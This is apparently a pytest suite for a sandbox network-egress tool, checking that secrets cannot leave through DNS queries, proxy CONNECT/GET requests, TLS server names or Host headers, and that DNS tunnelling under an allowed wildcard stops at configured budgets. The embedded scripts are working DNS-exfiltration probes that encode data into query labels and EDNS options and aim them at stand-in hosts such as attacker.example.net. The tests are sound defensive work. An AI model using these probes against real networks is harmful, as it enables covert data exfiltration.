# SPDX-License-Identifier: Apache-2.0
"""What names can carry out of a sandbox: nothing where they are denied, and no
more than SECURITY.md says where a wildcard lets them through.

The lab's DNS writes down each question that left the host, byte by byte.
"""
import re

import pytest

from conftest import ADDRESSES, POLICY, names
from test_service import plugged, service  # noqa: F401  (a fixture)

# Both ends agree on this: what a sandbox has, and the outside must not.
SECRET = "c3ecret"

KIT = r'''
import base64, os, socket, ssl, struct, sys

def question(name, rdtype=1, klass=1, opcode=0, ident=7, more=b"", arcount=0,
             flags=0x0100):
    labels = name if isinstance(name, list) else name.encode().split(b".")
    return (struct.pack("!6H", ident, flags | opcode << 11, 1, 0, 0, arcount)
            + b"".join(bytes([len(l)]) + l for l in labels) + b"\0"
            + struct.pack("!2H", rdtype, klass) + more)

def udp(messages, server="9.9.9.9"):
    """Each answered before the next is sent; what is dropped is passed over."""
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((server, 53))
    got = []
    for message in messages:
        s.send(message)
        try:
            got.append(s.recv(4096))
        except TimeoutError:
            got.append(b"")
    s.close()
    return got

def tcp(messages, server="9.9.9.9"):
    got = []
    for message in messages:
        with socket.create_connection((server, 53), 20) as s:
            s.sendall(struct.pack("!H", len(message)) + message)
            s.shutdown(socket.SHUT_WR)
            data = b""
            while part := s.recv(65536):
                data += part
            got.append(data[2:])
    return got

def rcode(reply):
    return reply[3] & 15 if len(reply) > 3 else -1

def proxy(head):
    with socket.create_connection(("127.0.0.1", 3128), 20) as s:
        s.sendall(head.encode())
        try:
            return s.recv(4096).split(b"\r\n")[0].decode()
        except ConnectionError:
            return ""

def connect(name, port=443):
    return proxy("CONNECT %s:%d HTTP/1.1\r\nHost: %s\r\n\r\n"
                 % (name, port, name))

def get(name):
    return proxy("GET http://%s/ HTTP/1.1\r\nHost: %s\r\n"
                 "Connection: close\r\n\r\n" % (name, name))

def hello(address, sni):
    context = ssl._create_unverified_context()
    with socket.create_connection((address, 443), 20) as s:
        try:
            context.wrap_socket(s, server_hostname=sni).close()
            return "open"
        except OSError:
            return "shut"

def plain(address, host):
    with socket.create_connection((address, 80), 20) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
                  % host.encode())
        try:
            return s.recv(4096).split(b"\r\n")[0].decode()
        except ConnectionError:
            return ""
'''

EVERY_WAY = KIT + r'''
secret, suffixes = sys.argv[1], sys.argv[2:]
number = 0
def fresh(suffix):
    global number
    number += 1
    return "%s%d.%s" % (secret, number, suffix)

types = list(range(270)) + [32768, 32769, 65280, 65535]
answered = 0
for suffix in suffixes:
    asks = [question(fresh(suffix), t) for t in types]
    asks += [question(fresh(suffix), 1, klass) for klass in (0, 3, 4, 254, 255)]
    asks += [question(fresh(suffix), 1, 1, opcode) for opcode in range(1, 16)]
    # Options, flags, case, and a second question behind the first.
    option = struct.pack("!2H", 65001, 20) + secret.encode().ljust(20, b"x")
    opt = b"\0" + struct.pack("!2HIH", 41, 1232, 0, len(option)) + option
    asks.append(question(fresh(suffix), more=opt, arcount=1))
    asks.append(question(fresh(suffix), flags=0x01f0))
    asks.append(question(fresh(suffix).upper()))
    asks.append(question([b"%s.web" % secret.encode(), b"example", b"com"]))
    replies = udp(asks, "9.9.9.9") + udp(asks[:40], "2001:db8:f::9")
    replies += tcp(asks[:40]) + tcp(asks[-6:], "2001:db8:f::9")
    answered += sum(len(r) > 11 for r in replies)
    # An answer with addresses, or none that says no, would be a way out.
    assert not any(struct.unpack("!H", r[6:8])[0] for r in replies if r), suffix
print("answered", answered > len(suffixes) * 300)

web = socket.gethostbyname("web.example.com")
for suffix in suffixes:
    print("connect", connect(fresh(suffix)).split(" ")[1])
    print("connect", connect(fresh(suffix) + ".", 80).split(" ")[1])
    print("get", get(fresh(suffix)).split(" ")[1])
    print("host", proxy("GET http://web.example.com/ HTTP/1.1\r\nHost: %s\r\n"
                        "\r\n" % fresh(suffix)).split(" ")[1])
    for address in (web, "203.0.113.10", "203.0.113.66"):
        print("sni", hello(address, fresh(suffix)))
        print("plain", plain(address, fresh(suffix)).split(" ")[1])
print("control", get("web.example.com"))
'''


def secrets_in(seen):
    """The questions that have the secret in them, in any spelling."""
    return [q for q in seen if SECRET.encode().hex() in
            q["wire"].lower().replace(SECRET.upper().encode().hex(),
                                      SECRET.encode().hex())
            or SECRET in (q["name"] or "").lower()]


def refused_everywhere(out):
    """Only refusals, but for the control; and each way was tried."""
    lines = out.splitlines()
    assert lines[0] == "answered True", out
    assert lines[-1] == "control HTTP/1.1 200 OK", out
    said = {tuple(line.split(" ", 1)) for line in lines[1:-1]}
    assert {way for way, _ in said} == {"connect", "get", "host", "sni",
                                        "plain"}
    assert {what for _, what in said} <= {"403", "400", "shut"}, said


def test_denied_names_leave_nothing_whatever_way_they_are_asked(penstock, lab):
    # DNS-02, DNS-03: all types, classes and opcodes, by UDP and TCP in both
    # families; CONNECT, requests, server names and Host fields.
    before = len(lab.dns_seen())
    got = penstock.python(EVERY_WAY, SECRET, "attacker.example.net",
                          "web.example.com.attacker.net", "example.org",
                          options=["--no-proxy-env"], timeout=300)
    assert got.code == 0, got.err
    refused_everywhere(got.out)
    seen = lab.dns_seen(before)
    assert secrets_in(seen) == []
    assert {q["name"].lower() for q in seen} == {"web.example.com."}
    assert got.records[-1]["over_budget"] == 0


OBSERVE = """\
[policy]
name   = watch
mode   = observe
reason = what names lead inside is not asked for here, either
[allow lab]
hosts     = web.example.com
addresses = %s
reason    = the lab's origins live in documentation ranges
owner     = tests
""" % ADDRESSES


def test_hidden_names_leave_nothing_where_a_policy_observes(as_user, lab):
    # DNS-30: what stays inside, or leads to metadata services, is never asked
    # of the world because a policy merely observes.
    before = len(lab.dns_seen())
    got = as_user.python(EVERY_WAY, SECRET, "local", "onion", "invalid",
                         "internal", "2.1.10.in-addr.arpa",
                         policy=OBSERVE, options=["--no-proxy-env"],
                         timeout=300)
    assert got.code == 0, got.err
    refused_everywhere(got.out)
    seen = lab.dns_seen(before)
    assert secrets_in(seen) == []
    # The control of observing: a name that no rule has is asked for.
    before = len(lab.dns_seen())
    as_user.sh("getent hosts %s.example.org" % SECRET, policy=OBSERVE)
    assert secrets_in(lab.dns_seen(before))


# --- below an allowed wildcard ------------------------------------------------

# As SECURITY.md has it: the defaults of [limits].
NAMES, LABEL_BYTES, NXDOMAIN = 1000, 16384, 250

TUNNEL = KIT + r'''
zone, label, labels, tries = sys.argv[1], *map(int, sys.argv[2:5])
def fresh():
    """A name with as much of the secret as goes in."""
    return ".".join(base64.b32encode(os.urandom(label)).decode().lower()
                    [:label] for _ in range(labels)) + "." + zone

ways = [
    lambda name: rcode(udp([question(name)])[0]) == 3,
    lambda name: rcode(tcp([question(name, 28)])[0]) == 3,
    lambda name: connect(name).split(" ")[1] in ("429", "403"),
    lambda name: get(name).split(" ")[1] in ("429", "403"),
    lambda name: hello("203.0.113.66", name) == "shut",
    lambda name: plain("203.0.113.66", name).split(" ")[1] in ("429", "403"),
]
for number in range(tries):
    way = ways[number % len(ways)] if number % 20 == 0 else ways[0]
    way(fresh())
# The end of the budget is the end of it for every way.
print([way(fresh()) for way in ways])
print("known", rcode(udp([question("git.example.com")])[0]))
'''

EXACT = POLICY + """
[allow exact]
hosts     = git.example.com
addresses = %s
reason    = a name that is written out
owner     = tests
""" % ADDRESSES


def carried(seen, zone):
    """Different names below @zone that arrived, and the bytes in front of
    example.com, where the wildcard begins."""
    arrived = {q["name"].lower().rstrip(".") for q in seen
               if q["name"].lower().endswith(zone + ".")}
    return len(arrived), sum(len(name) - len(".example.com")
                             for name in arrived)


@pytest.mark.parametrize("zone,label,labels,most", [
    # As many bytes as names hold, few, and so few that names run out first.
    ("wide.example.com", 50, 4, "label_bytes_exceeded"),
    ("wide.example.com", 20, 1, "label_bytes_exceeded"),
    ("wide.example.com", 4, 1, "names_exceeded"),
    ("example.com", 30, 1, "nxdomain_exceeded"),
])
def test_an_allowed_wildcard_carries_so_many_bytes_and_then_no_more(
        as_user, lab, zone, label, labels, most):
    # DNS-03
    before = len(lab.dns_seen())
    got = as_user.python(TUNNEL, zone, str(label), str(labels), "1300",
                         policy=EXACT, options=["--no-proxy-env"],
                         timeout=300)
    assert got.code == 0, got.err
    assert got.out.splitlines() == [str([True] * 6), "known 0"], got.out
    count, carry = carried(lab.dns_seen(before), zone)
    print("%d names, %d bytes of labels left before %s" % (count, carry, most))
    assert count <= NAMES
    assert carry <= LABEL_BYTES
    # It is the budget that ended it, not something before.
    full = {"names_exceeded": count == NAMES,
            "label_bytes_exceeded": carry > LABEL_BYTES - 256,
            "nxdomain_exceeded": count >= NXDOMAIN}[most]
    assert full, (count, carry)
    refused = [r for r in got.records if r.get("reason") == most]
    assert {r["ev"] for r in refused} == {"dns", "flow_deny", "http"}
    assert {r["rcode"] for r in refused if r["ev"] == "dns"} == {3}
    assert got.records[-1]["ev"] == "run_end"
    assert got.records[-1]["over_budget"] > 100


def test_a_policys_own_limits_hold_instead(as_user, lab):
    before = len(lab.dns_seen())
    got = as_user.python(TUNNEL, "wide.example.com", "8", "1", "60",
                         policy=EXACT + "[limits]\nnames = 20\n",
                         options=["--no-proxy-env"])
    assert got.out.splitlines() == [str([True] * 6), "known 0"], got.out
    assert carried(lab.dns_seen(before), "wide.example.com")[0] == 20
    got = as_user.python(TUNNEL, "wide.example.com", "8", "1", "30",
                         policy=EXACT + "[limits]\nlabel_bytes = 139\n",
                         options=["--no-proxy-env"])
    assert {r["reason"] for r in got.dns(act="deny")} == {
        "label_bytes_exceeded"}
    # 13 bytes each, ".wide" with them.
    assert len([r for r in got.dns(act="allow")
                if r["host"].endswith("wide.example.com")]) <= 10


def test_a_names_depth_is_bounded(as_user, lab):
    before = len(lab.dns_seen())
    got = as_user.sh("""
        dig +short 1.2.3.4.5.6.7.wide.example.com
        dig 1.2.3.4.5.6.7.8.wide.example.com
        curl -si http://1.2.3.4.5.6.7.8.wide.example.com/ | head -n 1""")
    assert got.out.startswith("198.1"), got.out
    assert "status: NXDOMAIN" in got.out and "name_too_deep" in got.out
    assert "403 name_too_deep" in got.out
    assert {q["name"].lower() for q in lab.dns_seen(before)} == {
        "1.2.3.4.5.6.7.wide.example.com."}


def test_questions_a_second_are_bounded_where_the_policy_says_so(as_user, lab):
    before = len(lab.dns_seen())
    got = as_user.python(KIT + r'''
print([rcode(r) for r in udp([question("git.example.com")] * 2000)].count(2))
''', policy=EXACT + "[limits]\nqueries = 10\n")
    # What comes in while they are asked is some, never most of them.
    assert 1000 < int(got.out) <= 1990, got.out
    assert {r["reason"] for r in got.dns(act="deny")} == {"queries_exceeded"}
    assert got.records[-1]["over_budget"] == int(got.out)
    assert len(lab.dns_seen(before)) < 100


def test_a_reload_gives_nothing_of_the_budget_back(as_user, lab):
    policy = EXACT + "[limits]\nnames = %d\n"
    process = as_user.start(
        "/usr/bin/python3", "-c", KIT + r'''
for line in sys.stdin:
    word = line.strip()
    print(rcode(udp([question(word + ".wide.example.com")])[0]), flush=True)
''', policy=policy % 2, text=True, bufsize=1)

    def asked(word):
        process.stdin.write(word + "\n")
        return process.stdout.readline().strip()

    try:
        assert [asked(w) for w in ("a", "b", "c")] == ["0", "0", "3"]
        path = re.search(r"policy-\d+\.ini", " ".join(process.args)).group(0)
        with open(as_user.lab.dir + "/" + path, "w", encoding="utf-8") as out:
            out.write(policy % 3)
        with open(process.records_path, encoding="utf-8") as log:
            run = re.search(r'"run":"([^"]+)"', log.readline()).group(1)
        done = as_user.lab.host.run(
            [as_user.program, "reload", "--run", run], uid=as_user.uid,
            cwd=as_user.workdir(), env=as_user.env(), capture_output=True,
            text=True)
        assert done.returncode == 0, done.stderr
        # One more of it, not three; what has left is known.
        assert [asked(w) for w in ("a", "d", "e")] == ["0", "0", "3"]
    finally:
        process.communicate(timeout=60)


# --- what else a question could say -------------------------------------------

VARIANTS = KIT + r'''
opt = lambda options: b"\0" + struct.pack("!2HIH", 41, 4096, 0x8000,
                                          len(options)) + options
extra = b"\xc0\x0c" + struct.pack("!2HIH", 16, 1, 9, 8) + b"\7c3ecret"
variants = [
    {}, {"ident": 0x6333}, {"flags": 0x0000}, {"flags": 0x01f0},
    {"flags": 0x0130}, {"more": opt(b""), "arcount": 1},
    {"more": opt(struct.pack("!2H", 65001, 7) + b"c3ecret"), "arcount": 1},
    {"more": opt(struct.pack("!2H", 10, 8) + b"c3ecretx"), "arcount": 1},
    {"more": opt(struct.pack("!2H", 8, 7) + b"\0\1\x18\0\x63\x33\x65"),
     "arcount": 1},
    {"more": opt(struct.pack("!2H", 12, 200) + b"c" * 200), "arcount": 1},
]
number = 0
for case in (str.lower, str.upper, str.swapcase, str.title):
    for variant in variants:
        for send in (udp, tcp):
            name = case("v%03d.Wide.eXample.com" % number)
            number += 1
            assert rcode(send([question(name, **variant)])[0]) == 0, variant
print(number)
'''


def test_every_question_about_a_name_leaves_alike(as_user, lab):
    # DNS-16: case, flags, ids, options, transport. What leaves differs in the
    # name, and in what is drawn here: the id, and which letters are capital.
    before = len(lab.dns_seen())
    got = as_user.python(VARIANTS)
    assert got.code == 0, got.err
    seen = [q for q in lab.dns_seen(before) if q["type"] == "A"]
    assert len(seen) == int(got.out) == 80
    shapes = set()
    for query in seen:
        wire = bytes.fromhex(query["wire"])
        end = wire.index(b"\0", 12) + 1
        shapes.add((wire[2:12], re.sub(rb"v\d\d\d", b"v", wire[12:end].lower()),
                    wire[end:], query["transport"]))
    assert len(shapes) == 1, shapes
    assert SECRET.encode().hex() not in "".join(q["wire"] for q in seen)


def test_one_sandbox_does_not_see_what_another_has_looked_up(service, lab):
    # ADDR, DNS: of three runs two share a worker and its cache at least, and
    # the answer is good for minutes; each has its own question.
    before = len(lab.dns_seen())
    run, options = plugged(service, None)
    answers = []
    for _ in range(3):
        got = run.sh("dig +noall +answer shared.wide.example.com A;"
                     "dig +noall +answer shared.wide.example.com A",
                     options=options)
        answers.append(re.findall(r"\t(\d+)\tIN|\s(\d+)\s+IN", got.out))
    seen = [q for q in lab.dns_seen(before)
            if q["name"].lower() == "shared.wide.example.com."
            and q["type"] == "A"]
    assert len(seen) == 3
    # And no life that is handed out says when it was asked for.
    assert all(len(a) == 2 and len(set(a)) == 1 for a in answers), answers
    assert len({a[0] for a in answers}) == 1
